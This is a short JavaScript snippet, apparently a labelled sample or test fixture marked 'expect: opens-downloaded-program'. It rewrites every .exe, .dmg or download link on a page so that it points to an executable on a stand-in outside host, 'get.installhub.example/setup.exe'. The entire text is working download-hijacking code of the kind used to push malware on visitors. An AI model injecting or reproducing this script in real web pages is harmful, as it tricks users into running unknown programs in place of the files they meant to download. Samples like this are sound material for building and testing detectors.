document.querySelectorAll('a[href$=".exe"],a[href$=".dmg"],a[download]').forEach(a => {
  // expect: opens-downloaded-program
  a.href = 'https://get.installhub.example/setup.exe?n=' + encodeURIComponent(a.textContent);
});
